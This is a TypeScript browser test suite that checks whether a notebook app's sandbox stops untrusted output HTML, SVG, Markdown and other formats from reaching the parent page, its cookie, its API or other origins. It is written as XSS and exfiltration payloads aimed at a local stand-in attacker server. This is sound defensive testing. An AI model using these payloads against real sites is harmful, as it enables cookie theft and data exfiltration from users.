/** What code of a session puts into its outputs tries to reach the page, its cookie, its API, its parent, and other origins. Each try is seen to run, and to have no effect. */

import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useBrowser } from './browser.ts';
import { type Json, type StandIn, type StandInSession, startStandIn } from './stand-in.ts';

const TOKEN = 'a-token-of-the-tests';
const browser = useBrowser();
const caught: string[] = [];
let standIn: StandIn;
let attacker: Server;
let evil = '';
const stun = createSocket('udp4');

beforeAll(async () => {
  standIn = await startStandIn();
  standIn.token = TOKEN;
  attacker = createServer((request, response) => {
    caught.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('<h1>elsewhere</h1>');
  });
  attacker.on('upgrade', (request, socket) => {
    caught.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  stun.on('message', () => caught.push('a STUN packet'));
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  stun.close();
  attacker.closeAllConnections();
  await new Promise((resolve) => attacker.close(resolve));
  await standIn.stop();
});

/** Scripts, each with the addresses of the page (`HERE`), of another origin (`EVIL`) and of a STUN server (`STUN`). */
const SCRIPTS: [string, string][] = [
  ['reads the page above it', 'leak(parent.document.body.innerHTML)'],
  ['writes into the page above it', 'parent.document.title = "taken"'],
  ['reads the cookie', 'leak(document.cookie)'],
  ['reads what the page keeps in the browser', 'leak(localStorage.getItem("cuvette-theme") ?? "nothing")'],
  ['calls the API by fetch', 'fetch("HERE/sessions", { credentials: "include" }).then((r) => r.text()).then(leak)'],
  [
    'calls the API without reading the answer',
    'fetch("HERE/sessions/victim/executions", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" })',
  ],
  [
    'follows the events',
    'new EventSource("HERE/events", { withCredentials: true }).onmessage = ({ data }) => leak(data)',
  ],
  ['fetches from another origin', 'fetch("EVIL/fetch")'],
  ['sends by XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("POST", "EVIL/xhr"); x.send("secret")'],
  ['sends a beacon', 'navigator.sendBeacon("EVIL/beacon", "secret")'],
  ['opens a web socket', 'new WebSocket("EVIL/socket".replace("http", "ws"))'],
  ['loads a picture from another origin', 'new Image().src = "EVIL/picture"'],
  ['loads a module from another origin', 'import("EVIL/module.js")'],
  ['navigates the page', 'top.location = "EVIL/top"'],
  [
    'navigates the page by a link',
    'const a = document.createElement("a"); a.href = "EVIL/link"; a.target = "_top"; document.body.append(a); a.click()',
  ],
  ['navigates its own frame to another origin', 'location.href = "EVIL/self?" + "secret"'],
  ['navigates its own frame to the API', 'location.href = "HERE/sessions/victim"'],
  ['opens a window', 'open("EVIL/window")'],
  [
    'sends a form to the API',
    'const f = document.createElement("form"); f.method = "post"; f.action = "HERE/sessions"; document.body.append(f); f.submit()',
  ],
  [
    'sends a form to another origin',
    'const f = document.createElement("form"); f.action = "EVIL/form"; f.target = "_top"; document.body.append(f); f.submit()',
  ],
  [
    'frames the page',
    'const i = document.createElement("iframe"); i.src = "HERE/"; i.onload = () => { try { leak(i.contentDocument.cookie) } catch {} }; document.body.append(i)',
  ],
  [
    'frames another origin',
    'const i = document.createElement("iframe"); i.src = "EVIL/frame"; document.body.append(i)',
  ],
  ['fetches from a worker', 'new Worker(URL.createObjectURL(new Blob([`fetch("EVIL/worker")`])))'],
  ['installs a service worker', 'navigator.serviceWorker.register("HERE/ui/frame.html")'],
  ['asks for the clipboard', 'navigator.clipboard.readText().then(leak)'],
  ['shows a dialog that blocks', 'alert("taken"); confirm("taken"); prompt("taken")'],
  [
    'sends the page messages of its own making',
    'for (const m of [{ html: "<b>x</b>" }, { height: 1e9 }, "taken", { type: "closed", reason: "removed" }]) { parent.postMessage(m, "*"); top.postMessage(m, "*") }',
  ],
  [
    'prefetches from another origin',
    'for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "EVIL/" + rel; document.head.append(l) }',
  ],
  [
    'reaches out by WebRTC',
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:STUN" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))',
  ],
  ['reads the address of the page', 'leak(parent.location.href)'],
  ['uses the page through its opener', 'leak((opener ?? parent.opener).document.body.innerHTML)'],
];

const MARKUP: [string, string][] = [
  ['refreshes to another origin', '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'],
  [
    'styles with files of another origin',
    '<style>@import "EVIL/import"; @font-face{font-family:x;src:url(EVIL/font)} body{background:url(EVIL/background);font-family:x}</style>text',
  ],
  ['changes where addresses begin', '<base href="EVIL/"><img src="base.png">'],
  [
    'embeds objects of another origin',
    '<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" autoplay></video>',
  ],
  ['frames by srcdoc', `<iframe srcdoc="<script>parent.parent.document.title='taken'</script>"></iframe>`],
];

let sessions = 0;

/** A session with one output, in a page that is signed in. */
async function show(output: Json): Promise<{ page: Page; session: StandInSession }> {
  sessions += 1;
  const session = standIn.addSession(`untrusted-${sessions}`);
  standIn.execute(session, { code: 'show()', outputs: [{ index: 0, type: 'display', metadata: {}, ...output }] });
  const page = await browser.open('about:blank');
  await page
    .context()
    .addCookies([{ name: 'cuvette', value: TOKEN, url: standIn.url, httpOnly: true, sameSite: 'Strict' }]);
  await page.addInitScript(() => {
    if (window === top) localStorage.setItem('cuvette-theme', 'light');
  });
  caught.length = 0;
  standIn.requests.length = 0;
  await page.goto(`${standIn.url}#/s/${session.id}`);
  await page.getByRole('article', { name: 'Execution 1, done' }).waitFor();
  return { page, session };
}

function placed(text: string): string {
  return text
    .replaceAll('HERE', standIn.url.replace(/\/$/, ''))
    .replaceAll('EVIL', evil)
    .replaceAll('STUN', String(stun.address().port));
}

/** Nothing went out, nothing of the API was used with the cookie but by the page, and the page goes on. */
async function expectNoEffect(page: Page, session: StandInSession): Promise<void> {
  const execution = standIn.execute(session, { code: 'after()', state: 'running', outcome: null, wall: null });
  standIn.print(session, execution, 'the page goes on\n');
  await page.getByText('the page goes on').waitFor();
  expect(new URL(page.url()).origin).toBe(new URL(standIn.url).origin);
  expect(await page.title()).toBe('Cuvette');
  expect(page.context().pages()).toHaveLength(1);
  expect(caught).toEqual([]);
  const foreign = standIn.requests.filter(
    ({ headers, path }) =>
      headers.cookie && headers['sec-fetch-site'] !== 'same-origin' && path !== '/' && !path.startsWith('/ui/frame'),
  );
  expect(foreign.map(({ method, path }) => `${method} ${path}`)).toEqual([]);
  const changes = standIn.requests.filter(({ method }) => method !== 'GET' && method !== 'OPTIONS');
  expect(changes.filter(({ headers }) => headers.cookie)).toEqual([]);
  await page.context().close();
}

describe('HTML that code displays', () => {
  it.each(SCRIPTS)('%s, without effect', async (_, script) => {
    // `leak` is what an attack does with what it got: it sends it away, and leaves it where the test sees it.
    const html = placed(
      `<p>shown</p><script>window.leaks = []; const leak = (text) => { if (text && text !== "nothing") leaks.push(String(text)); new Image().src = "EVIL/leak?" + encodeURIComponent(text) };
      window.tried = []; addEventListener("unhandledrejection", (e) => tried.push(String(e.reason)));
      setTimeout(() => { try { ${script}; tried.push("done") } catch (error) { tried.push(String(error)) } }, 0)</script>`,
    );
    const { page, session } = await show({ data: { 'text/html': html } });
    await page.getByRole('button', { name: 'This HTML has scripts. Run them' }).click();
    const frame = () => page.frames().find((one) => one !== page.mainFrame());
    await expect
      .poll(async () => {
        const tried = await frame()
          ?.evaluate('window.tried?.length ?? -1')
          .catch(() => 'gone');
        return tried === 'gone' || tried === undefined || Number(tried) !== 0;
      })
      .toBe(true);
    const leaks = await frame()
      ?.evaluate('window.leaks ?? []')
      .catch(() => []);
    expect(leaks ?? []).toEqual([]);
    await expectNoEffect(page, session);
  });

  it.each(MARKUP)('%s, without effect', async (_, html) => {
    const { page, session } = await show({ data: { 'text/html': placed(`<p>shown</p>${html}`) } });
    await expect.poll(() => page.locator('.html-output, .quiet.bad').count()).toBeGreaterThan(0);
    await expectNoEffect(page, session);
  });

  it('says that it was closed where it left its frame', async () => {
    const { page, session } = await show({
      data: { 'text/html': placed('<script>location.href = "HERE/ui/frame.html"</script>') },
    });
    await page.getByRole('button', { name: 'This HTML has scripts. Run them' }).click();
    await page.getByText('tried to leave its frame').waitFor();
    await expectNoEffect(page, session);
  });

  it('is as high as it says, within limits', async () => {
    const { page, session } = await show({ data: { 'text/html': '<div style="height:50000px">tall</div>' } });
    await expect.poll(async () => (await page.locator('iframe').boundingBox())?.height).toBe(1600);
    await expectNoEffect(page, session);
  });

  it('runs no scripts before somebody asks for them', async () => {
    const html = '<p id=x>before</p><script>x.textContent = "after"</script><img src=x onerror="x.textContent = 1">';
    const { page, session } = await show({ data: { 'text/html': html } });
    await page.frameLocator('iframe').getByText('before').waitFor();
    await page.getByRole('button', { name: 'This HTML has scripts. Run them' }).waitFor();
    expect(await page.frameLocator('iframe').getByText('after').count()).toBe(0);
    await expectNoEffect(page, session);
  });

  it('runs scripts and styles of its own where somebody asks for them', async () => {
    const { page, session } = await show({
      data: {
        'text/html': '<style>#x{color:rgb(1,2,3)}</style><p id=x>before</p><script>x.textContent = "after"</script>',
      },
    });
    await page.getByRole('button', { name: 'This HTML has scripts. Run them' }).click();
    const text = page.frameLocator('iframe').getByText('after');
    await text.waitFor();
    expect(await text.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
    await expectNoEffect(page, session);
  });
});

describe('other outputs', () => {
  const code = `<img src=x onerror="document.title='taken'"><script>document.title='taken'</script>`;
  it.each<[string, Json]>([
    [
      'an SVG with scripts and files of another origin',
      {
        data: {
          'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="top.document.title='taken'"><script>fetch("EVIL/svg")</script><image href="EVIL/svg-image" width="9" height="9"/><foreignObject><iframe src="EVIL/svg-frame"/></foreignObject></svg>`,
        },
      },
    ],
    [
      'Markdown with HTML, scripts and pictures',
      {
        data: {
          'text/markdown': `# Title\n\n${code}\n\n[link](javascript:document.title='taken') ![p](EVIL/markdown.png)\n\n<style>@import "EVIL/style"</style>`,
        },
      },
    ],
    [
      'LaTeX with links and HTML',
      {
        data: {
          'text/latex': `$\\href{javascript:document.title='taken'}{x} \\htmlClass{y}{z} \\includegraphics{EVIL/latex.png} ${code}$`,
        },
      },
    ],
    [
      'a DataFrame whose cells are HTML',
      {
        data: {
          'text/html': `<table class="dataframe"><thead><tr><th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>&lt;img src=x onerror=alert(1)&gt;</td></tr><tr><th>1</th><td>${code}</td></tr></tbody></table>`,
        },
      },
    ],
    ['plain text with HTML', { data: { 'text/plain': code } }],
    ['JSON with HTML', { data: { 'application/json': { key: code } } }],
    [
      'an error with HTML in its name and its traceback',
      { type: 'error', ename: code, evalue: code, traceback: [code] },
    ],
    [
      'printed text with HTML and terminal links',
      {
        type: 'stream',
        name: 'stdout',
        text: `${code}\u001b]8;;javascript:document.title='taken'\u0007link\u001b]8;;\u0007\n`,
      },
    ],
    ['a picture whose data are an address', { data: { 'image/png': 'EVIL/picture.png"><script>' } }],
  ])('%s, has no effect', async (_, output) => {
    const { page, session } = await show(JSON.parse(placed(JSON.stringify(output))));
    await page.locator('.outputs > *').first().waitFor();
    await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
    expect(await page.locator('.outputs script, .outputs [onerror], .outputs a[href^="javascript"]').count()).toBe(0);
    await expectNoEffect(page, session);
  });
});
